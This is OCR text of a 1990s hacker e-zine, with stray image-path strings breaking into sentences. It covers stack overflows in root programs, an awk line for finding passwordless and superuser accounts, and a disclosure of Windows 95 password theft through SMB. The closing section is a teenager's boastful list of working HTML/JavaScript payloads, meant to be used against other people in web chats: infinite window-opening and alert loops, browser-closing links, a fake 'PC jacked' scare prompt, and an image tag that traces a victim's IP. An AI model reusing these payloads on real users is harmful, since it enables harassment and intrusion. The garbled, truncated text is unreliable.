   preset size before the program is run because most of thesevalues are preset in the program.  This area holds basic
   values and other items that remain through out the run of the
   program and remain constent. The boundry above it is
   Non-movable because of it's preset size.

   The Heap, or Near Heap is all the memory between the Static
   and Stack area. This is the area the programs runs in. The
   program uses this area and manages it assigning pieces of it
   to sub-functions and other parts of the program as needed.
   This is called "Dynamic Memory Allocation". The Heap will
   always be of diffrent sizes as the Static area will, depending
   on its needs, start out bigger or smaller. The Stack also
   grows and shrinks moving it boundry and shrinking the Heap.

   Now onto the Stack. As I have said above, the Heap's size is
   always diffrent depending on the preset Static area, and on
   the Stack. The Stack will grow and shrink depending on other
   variables. If a subfunction is called and has more variable
   that are just used in this subfuntion, they are stored in the
   Stack. For instance, if you get a prompt to enter some kind of
   information for a program, chances are a subfunction is asking
   for it, and it will be stored in the Stack until used; thenthe memory it used will be cleared and that information
   passed on, or deleted.

   Now what if a large program was running, doing a lot of little
   things, and it asked you for a few lines of input. You input
   50,000 letters.  (This is a poor example but I'm trying to put
   it in simple terms.) Well if the program is not written
   correctly as to limit your input, you could "Crash the Stack".
   As the Heap gets bigger the boundry in between the Stack and
   itself moves up, then if the Stack needs some bit of memory it
   is forced to do with what little it has between the Heap
   boundry and the roof at 65,535 bytes. If it needs more memory
   and it is not available because it is all in use, it springs a
   leak, or "dumps" over the top , hence "Stack Dump". In Unix
   a lot of programs need to start a SUID process, or they need to
   "run as root" in order to do what they have to do. Now if one
   of these programs were to crash while this root process, or as
   it's really a root shell, was open, it would drop the person
   running it. If this shell were still open because the program
   never got a chance to exit from it, you would get dropped
   into it.That's that..

   I suggest if you want to learn more about Stack Dumps and
   hacking Unix in general you learn C. Unix is made for C, it's
   library functions are C, it's functions are C. Try going to a
   few sites that have codes (like mine) that exploit these types
   of holes and looking at what they do, and what they have in
   common that makes them work.

   Can I get a .sig with this one?

   Regards                       \__ ^^ __/
      BB                            X  X
                                    \  /
   -= One line AWK command that show users with no password or Superusers =-
   cat passwd | awk -F: 'NF !=7 || $3 == 0 || $2 == ""{printf $1 " " $2 " " $3}'
            www.infected.com - The Infected - Infecting young mindswww.technophoria.com - Technophoria - We're confused?

   *** Windows Hacking

From: Steve Birnbaum <sbirn@NETMEDIA.NET.IL>

See http://www.security.org.il/msnetbreak/ for more details.

What's new

   It is possible from anywhere on the Internet to obtain the
   cleartext Windows 95login password from a Windows 95 computer on a
   network connected directly to the Internet given only the IP
   address and the workgroup and leave no trace of your actions. It is
   untested and may work with Windows For Workgroups as well.


   There has been recent discussion on security mailing lists
   concerning the fact that Microsoft Internet Explorer running on
   Windows NT will automatically try to log in to a remote SMB server
   (file server) without prompting the user or without the user's
   knowledge. By design, the NT machine will transmit to this remote
   server the encrypted password and username of the user. This is
   documented by Aaron Spangler. The caveats with this are that the
   passwords are encrypted and that in many cases people do not use
   WWW browsers from NT servers, butrather from computers running
   Windows 95.

   It has been explained that this same exploit does not work against
   Windows 95 because Windows 95 is only capable of accessing SMB
   shares (file sharing) if they are:
     * Connected to the same subnet.
     * In the Windows 95 computer's LMHOSTS file on startup
     * Announced to the Windows 95 computer by a Master Browser

   It is this third and final condition that can be taken advantage of

   to obtain the cleartext password and username of any Windows 95
   user who uses Microsoft Internet Explorer. Even careless use of
   Microsoft Network Neighborhood can exploit this hole without the
   requirement for Internet Explorer The requirements are knowledge of

   the user's IP address, workgroup name and that they access a
   hostile web page. The first two are not difficult to obtain and thethird does not have to be an obscure page. In the last 6 months
   sites such as the CIA have been broken into. All it would require
   is that one un-noticeable line be added to the home page. Since the

   viewable content of the page has not been altered, such a change
   can go unnoticed for a long time.

Steve Birnbaum - System Administrator, NetMedia. Jerusalem, Israel.
sbirn@netmedia.net.il  Phone: +972-2-6795860   --Standard Disclaimer--
sbirn@security.org.il  http://www.vix.com/spam/   (PGP key available)


From: Anonymous

In the beginner's series #2, Section 2.... about "hacking" windows
95... you said there are ways to hack windows 95 boxes over a network.
have a small LAN at home (and a big one at school <evil grin>) and
would like to test some of these things on my home and my school. I am
not trying to do things on my school network that are bad.... but...
It would be nice to know some of the ways to hack windows 95 boxes
over a LAN just in case some day it does come in handy. Also.... one
of my friends has a censorship prog on his computer that censors him
from EVERYTHING.... like... pages that contain the word "hack" are
even blocked out! it is b******t! Can you tell me a few more ways
to try just in case the ones you listed in the e-mag dont work?

   *** More MSIE Problems

From: Steve Birnbaum <sbirn@NETMEDIA.NET.IL>

Russ.Cooper@RC.ON.CA said:
> Is it more important to prevent MS boxes from automatically sending a
> challenge response transparently, or is it more important to have the
> challenge response mechanism fixed such that it cannot be exploited
> even if it is sent transparently and automatically?

Very simply...both are important, both should be fixed and we should
ensure that CNN treats them equally.

Since both methods can be used to break into remote computers, it is
picking at straws to say that one is more of a risk thanthe other.

> removing functionality is less preferable to improving control over
> that functionality

There is some "functionality" that Microsoft has provided that cannot
be secured.  If a feature can be secured, great.  If not, it should
not be there.  Ido not consider the .url/etc problem fixed.  Browsers
should be making a much bigger deal about files from the network.  To
make the function to disable the warning as innocuous as making the
checkbox to make the helpful hints window not show up is not a good
solution. We are talking about serious risks.  I don't think that the
risk is being made apparent enough to the average windows user who is
going to disable every such checkbox by default.

> A security management tool which could impose policies both locally
> and across the network would be able to do this for NT, but as yet we
> still have no program to do this. Why?

I won't touch this one.  I think my opinions on it should be obvious.


Steve Birnbaum - System Administrator, NetMedia. Jerusalem, Israel.
sbirn@netmedia.net.il  Phone: +972-2-6795860   --Standard Disclaimer--"Windows NT: The lusers think it's pretty"  - buzz@warbeast.com
Boycott Internet Spam! http://www.vix.com/spam/   (PGP key available)

 *** Jinxing Web Browsers (how to get punched in the nose -- CM:)

>From: GR8GUY <cyoung@northernnet.com>

Here I've seen all this crap about this link and click here and open
up this file and so on ya know!! Or do this and it will close Netscape
or do this if you click here!! well heck..LAMERZ!!!  That file thing
is how I trace on the www chat lines! Don't tell anyone..I get a
server damaen then..cause the www chat allows pics I send them this
pic <img src="ftp://myip//C:\temp\trace.jpg"> then wham it logs them
to my server damean and I get their IP and whatever I want..but I
always boot them out of my drive after about 10 seconds....oh if they
want links..here I'm 17 and I can figure this stuff out...!
most of it is Java but it's some nasty Java! I like the password
one..put it on a homepage and call the link "Pamala Anderson" and all
the fools get their computer hijacked *grins*...I'm soo innocent!! HA HA

    ~Auto color with script prompt...

<imgsrc="http://www.geocities.com/SiliconValley/7571/pi.gif" height=2
width=0 border=0 onLoad="var xxx = 'teal';

    ~Auto color...

<img src="http://www.geocities.com/SiliconValley/7571/pi.gif" height=2
width=0 border=0 onLoad="var xxx =
    ~Auto Opens window!

<img src="http://www.geocities.com/SiliconValley/7571/pi.gif" height=2
width=0 border=0 onLoad="window.open('Address')">

    ~Auto Opens window(s)!  !!!!!Good one!!!!!

<img src="http://www.geocities.com/SiliconValley/7571/pi.gif" height=2
width=0 border=0 onLoad="while(true){window.open( )}">

    ~Auto Close Netscape<img src="http://www.geocities.com/SiliconValley/7571/pi.gif" height=2
width=0 border=0 onLoad="window.close( )">

    ~Funny! " Blue light special "

<img src="http://www.geocities.com/SiliconValley/7571/pi.gif" height=2
width=0 border=0 onLoad="var xxx = 'sky blue'; alert('Ok....Attention
K-Mart shoppers.. Blue light special!!!  Everything must

    ~Close Netscape...

<a href=""onmouseover="window.close( )">TEXT</a>

<a href=""onmouseover=parent.close()>TEXT</a>

<input submit="window.close<Name>">

    ~Opens window(s)!  !!!!!Good one!!!!! This will open about 30+
Netscape Browsers, then they get scaped!

<a href=""onmouseover="while(true){window.open( )}">TEXT</a>

    ~Opens 1 window...Thiswill send them to the address you put in..

<a href="" onmouseover="window.open('Address')">TEXT</a>

    ~Color change with prompt...


    ~Changes background color... Where it has ('white')  Type in any


<a href="fttp://button"OnMouseOver="document.bgColor=('white')"<a

<a href="http://button"OnMouseOver="document.bgColor=('white')"<a

    ~Changes the font and background... With a prompt...

<a href=""onmouseover="alert('Purple and beige?');
document.bgColor=('beige'); document.fgColor=('purple')">TEXT</a>

    ~This is another I have made... Just try it...And read what the
message says when it pops up...

<ahref="" onMouseOver="var fg =prompt('Text Color?', 'red');var


    ~This will change the color to about 5 differnet times...One right
after the other...


      ~This is the one that I made...  Where it has 'password'  Type
in anything you want! So if you type in 'Cool'  That will be the
password they have to enter to get out of the code.. This can scare
the crap out ofpeople! *lol*

<a href=""onMouseOver="var password = 'password';alert('Netscape is
about to crash! You have 5 chances to guess my password and not get
your pc jacked');var c = 0;while(c != 5) {var p =prompt('Guess');if(p
==password){c=5} else c ++};if(p == password){alert('You were Lucky
This time! But it only happens once!........you guessed.')}else
{alert('YOUR PC IS

                                  'password goes here'

    ~Looped Java...They can do nothing but click ok! Nasty code, I
like it! *lol*

<a href=""onmouseover="while(true)(alert('Click ok'))">TEXT</a>

<a href=""onmouseover=while(true)("document.bgcolor='COLOR'")>TEXT</a>

    ~Java alerts...Type in a little message...It pops up, they click
ok and they are back to chatting...<a href=""onmouseover="window.alert('Text')">Text</A></I><P>

<a href=""onMouseOver="alert ('Uh oh!!!  You should not have touched
this!!!') ;alert ('Ha Ha  made ya look!!! :0)') ;return

    ~This, you can have as many Java windows open as you want... Type
inyour messages between the ('  ')  And, they just keep clicking ok
until the code ends...Depends on how many messages you put in...

<a href=""onmouseover="alert('  '); alert('  '); alert('  '); alert('
'); alert('  '); alert('  ')">Text</a>

    ~Hmmm, made this one too! *lol*  This is a warning prompt...Try

<a href=""onmouseover="alert('Your screwed now!!!'); alert('Your one
